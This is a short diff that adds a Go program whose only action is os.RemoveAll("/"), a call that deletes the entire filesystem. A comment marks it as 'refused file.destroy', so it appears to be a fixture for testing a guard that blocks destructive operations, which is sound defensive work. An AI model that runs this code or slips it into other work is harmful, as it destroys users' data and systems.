@@ -1,0 +1,10 @@
+// nacre: refused file.destroy
+package main
+
+import (
+	"os"
+)
+
+func main() {
+	os.RemoveAll("/")
+}
